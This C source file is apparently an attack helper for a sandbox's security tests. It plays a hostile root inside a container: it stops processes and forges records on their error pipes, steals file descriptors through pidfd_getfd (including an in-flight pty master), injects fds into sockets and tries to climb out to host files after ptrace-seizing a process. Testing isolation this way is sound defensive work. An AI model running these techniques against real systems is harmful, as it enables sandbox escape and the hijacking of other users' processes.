/*
 * exec-attack: what a hostile root inside a machine (or, for kcmp, the test on the host) does to
 * the process Machine.exec makes. Static, no libc beyond the syscall wrappers. Used by
 * test/security/exec-hang.test.js.
 *
 *   exec-attack lease PATH            replace PATH by a regular file and hold a write lease on it:
 *                                     anyone else's open() of it waits (lease-break-time, 45 s)
 *   exec-attack forge MODE PID [any]  stop every trampoline ("nsbox-init --exec ERRFD ..."), write a
 *                                     forged record on its error pipe through /proc/<pid>/fd/ERRFD
 *                                     and leave it stopped; with "any", every new process (before
 *                                     its execve too), on each pipe it can write to. MODE: entered
 *                                     (STEP_ENTERED naming PID), error (STEP_EXEC, ENOENT), partial
 *                                     (8 bytes of a record)
 *   exec-attack steal [stop]          take the fds of every other process (pidfd_getfd, which
 *                                     CAP_SYS_PTRACE allows whatever the dumpable flag) and
 *                                     receive any fd passed on a socket among them (the pty master
 *                                     on its way to Node); with "stop", stop each process first
 *   exec-attack inject [stop]         the same, but send an fd of /dev/null on every socket instead
 *                                     (ahead of the pty master, if it is not there yet)
 *   exec-attack kcmp PID1 PID2        prints "same" if the two processes share one mm, else "differ"
 * Prints one line per hit ("forged PID", "stole FD from PID") on stdout.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif
#ifndef F_SETLEASE
#define F_SETLEASE 1024
#endif

static int seen[65536];

static int lease(const char *path) {
	unlink(path);
	int fd = open(path, O_RDWR | O_CREAT | O_EXCL, 0666);
	if (fd < 0) return perror("create"), 1;
	close(fd);
	fd = open(path, O_RDONLY);
	if (fd < 0) return perror("open"), 1;
	signal(SIGIO, SIG_IGN);
	if (fcntl(fd, F_SETLEASE, F_WRLCK) != 0) return perror("F_SETLEASE"), 1;
	printf("leased %s\n", path);
	fflush(stdout);
	for (;;) pause();
}

/* argv of pid into buf (NUL-separated); length or -1 */
static int cmdline(int pid, char *buf, int len) {
	char p[64];
	snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
	int fd = open(p, O_RDONLY);
	if (fd < 0) return -1;
	int n = read(fd, buf, len - 1);
	close(fd);
	if (n >= 0) buf[n] = 0;
	return n;
}

/* Writes the forged record to /proc/pid/fd/fd. */
static void forge_one(const char *mode, int victim, int pid, int fd) {
	char p[64];
	snprintf(p, sizeof p, "/proc/%d/fd/%d", pid, fd);
	int w = open(p, O_WRONLY | O_NONBLOCK);
	if (w < 0) {
		printf("open %s: %s\n", p, strerror(errno));
		return;
	}
	int rec[4] = {28, 0, victim, 0x6e73627a};
	size_t len = sizeof rec;
	if (!strcmp(mode, "error")) rec[0] = 21, rec[1] = 2, rec[2] = 0;
	if (!strcmp(mode, "partial")) len = 8;
	if (write(w, rec, len) == (ssize_t)len) printf("forged %s on fd %d of %d\n", mode, fd, pid);
	close(w);
}

/* Is /proc/pid/fd/fd the write end of a pipe? */
static int pipe_writer(int pid, int fd) {
	char p[64], link[64], info[256];
	snprintf(p, sizeof p, "/proc/%d/fd/%d", pid, fd);
	ssize_t n = readlink(p, link, sizeof link - 1);
	if (n < 0) return 0;
	link[n] = 0;
	if (strncmp(link, "pipe:", 5)) return 0;
	snprintf(p, sizeof p, "/proc/%d/fdinfo/%d", pid, fd);
	int f = open(p, O_RDONLY);
	if (f < 0) return 0;
	n = read(f, info, sizeof info - 1);
	close(f);
	if (n <= 0) return 0;
	info[n] = 0;
	char *fl = strstr(info, "flags:");
	return fl && (strtol(fl + 6, NULL, 8) & O_ACCMODE) == O_WRONLY;
}

/*
 * trampoline: the exec trampoline ("nsbox-init --exec ERRFD ..."), dumpable after its execve, its
 * error fd named in its argv. any: every new process, stopped first (before its execve too), on
 * every pipe it can write to.
 */
static int forge(const char *mode, int victim, int any) {
	int self = getpid();
	printf("watching\n"); /* the test starts its execs after this line */
	fflush(stdout);
	for (;;) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			int pid = atoi(e->d_name);
			if (pid <= 1 || pid == self || pid >= 65536 || seen[pid]) continue;
			char buf[256];
			int n = cmdline(pid, buf, sizeof buf);
			int tramp = n >= 20 && !strcmp(buf, "nsbox-init") && !strcmp(buf + 11, "--exec");
			if (!tramp && !any) continue;
			kill(pid, SIGSTOP);
			seen[pid] = 1;
			if (tramp) {
				forge_one(mode, victim, pid, atoi(buf + 18));
			} else {
				for (int fd = 3; fd < 64; fd++)
					if (pipe_writer(pid, fd)) forge_one(mode, victim, pid, fd);
			}
		}
		if (d) closedir(d);
	}
	return 0;
}

/* Sends fd `what` over sock (SCM_RIGHTS, one byte). */
static int send_fd(int sock, int what) {
	char byte = 'x';
	struct iovec iov = {&byte, 1};
	union {
		struct cmsghdr align;
		char buf[CMSG_SPACE(sizeof(int))];
	} u;
	memset(&u, 0, sizeof u);
	struct msghdr msg = {0};
	msg.msg_iov = &iov;
	msg.msg_iovlen = 1;
	msg.msg_control = u.buf;
	msg.msg_controllen = sizeof u.buf;
	struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &what, sizeof what);
	return sendmsg(sock, &msg, MSG_DONTWAIT | MSG_NOSIGNAL) == 1 ? 0 : -1;
}

static int steal(int stop, int inject) {
	int dn = open("/dev/null", O_RDWR);
	int self = getpid();
	printf("watching\n"); /* the test starts its execs after this line */
	fflush(stdout);
	for (;;) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			int pid = atoi(e->d_name);
			if (pid <= 1 || pid == self || pid >= 65536 || seen[pid]) continue;
			int pfd = syscall(SYS_pidfd_open, pid, 0);
			if (pfd < 0) continue;
			if (stop) {
				seen[pid] = 1;
				kill(pid, SIGSTOP);
			}
			for (int fd = 3; fd < 64; fd++) {
				int g = syscall(SYS_pidfd_getfd, pfd, fd, 0);
				if (g < 0) continue;
				struct stat st;
				if (inject && fstat(g, &st) == 0 && S_ISSOCK(st.st_mode)) {
					if (send_fd(g, dn) == 0) {
						printf("injected into %d of %d\n", fd, pid);
						seen[pid] = 1;
					}
				} else if (fstat(g, &st) == 0 && S_ISSOCK(st.st_mode)) {
					char byte;
					struct iovec iov = {&byte, 1};
					union {
						struct cmsghdr align;
						char buf[CMSG_SPACE(sizeof(int))];
					} u;
					struct msghdr msg = {0};
					msg.msg_iov = &iov;
					msg.msg_iovlen = 1;
					msg.msg_control = u.buf;
					msg.msg_controllen = sizeof u.buf;
					if (recvmsg(g, &msg, MSG_DONTWAIT) > 0) {
						struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
						if (c && c->cmsg_type == SCM_RIGHTS) {
							int got;
							memcpy(&got, CMSG_DATA(c), sizeof got);
							printf("stole %d from %d\n", got, pid);
							fflush(stdout);
							close(got);
							seen[pid] = 1;
						}
					}
				}
				close(g);
			}
			if (stop) kill(pid, SIGCONT);
			close(pfd);
		}
		if (d) closedir(d);
	}
	return 0;
}

/*
 * climb REL: seize the next process of this pid namespace (machine root keeps CAP_SYS_PTRACE in the
 * initial user namespace), stop it at once, take every fd it holds through /proc/P/fd, and from each
 * directory among them try ".." up to the host's "/" and REL (a host file the test made) below it.
 * Prints "ready" once it watches, then "seized PID COMM" and then "ESCAPED fd N" or "contained".
 */
static int read_int(const char *p) {
	char b[32] = {0};
	int fd = open(p, O_RDONLY);
	if (fd < 0 || read(fd, b, sizeof b - 1) < 0) return -1;
	close(fd);
	return atoi(b);
}

static int climb(const char *rel) {
	int last = read_int("/proc/sys/kernel/ns_last_pid"), pid = -1;
	/* The test starts the next process only after this line: on a busy host a fixed delay was too short. */
	printf("ready\n");
	fflush(stdout);
	while (pid < 0) {
		for (int p = last + 1; p <= last + 3 && pid < 0; p++)
			if (ptrace(PTRACE_SEIZE, p, 0, 0) == 0) pid = p;
	}
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	int st;
	waitpid(pid, &st, __WALL);
	char path[64], comm[32] = {0};
	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	int cf = open(path, O_RDONLY);
	if (cf >= 0 && read(cf, comm, sizeof comm - 1) < 0) comm[0] = 0;
	if (cf >= 0) close(cf);
	comm[strcspn(comm, "\n")] = 0;
	printf("seized %d %s\n", pid, comm);
	int got[256], n = 0;
	for (int fd = 0; fd < 256 && n < 256; fd++) {
		char lp[64];
		snprintf(lp, sizeof lp, "/proc/%d/fd/%d", pid, fd);
		int g = open(lp, O_PATH | O_CLOEXEC);
		if (g >= 0) got[n++] = g;
	}
	ptrace(PTRACE_DETACH, pid, 0, 0);
	char up[4096] = "";
	for (int i = 0; i < 32; i++) strcat(up, "../");
	strncat(up, rel, sizeof up - strlen(up) - 1);
	for (int i = 0; i < n; i++) {
		struct stat s;
		if (fstat(got[i], &s) || !S_ISDIR(s.st_mode)) continue;
		int f = openat(got[i], up, O_RDONLY | O_CLOEXEC);
		if (f >= 0) {
			printf("ESCAPED fd %d\n", i);
			return 0;
		}
	}
	printf("contained\n");
	return 0;
}

int main(int argc, char **argv) {
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && !strcmp(argv[1], "climb")) return climb(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "lease")) return lease(argv[2]);
	if ((argc == 4 || argc == 5) && !strcmp(argv[1], "forge")) return forge(argv[2], atoi(argv[3]), argc == 5 && !strcmp(argv[4], "any"));
	if (argc >= 2 && !strcmp(argv[1], "steal")) return steal(argc > 2 && !strcmp(argv[2], "stop"), 0);
	if (argc >= 2 && !strcmp(argv[1], "inject")) return steal(argc > 2 && !strcmp(argv[2], "stop"), 1);
	if (argc == 4 && !strcmp(argv[1], "kcmp")) {
		long r = syscall(SYS_kcmp, atoi(argv[2]), atoi(argv[3]), 1 /* KCMP_VM */, 0, 0);
		if (r < 0) return perror("kcmp"), 1;
		puts(r == 0 ? "same" : "differ");
		return 0;
	}
	fprintf(stderr, "usage: exec-attack lease PATH | forge MODE PID [any] | steal [stop] | inject [stop] | kcmp PID1 PID2\n");
	return 2;
}
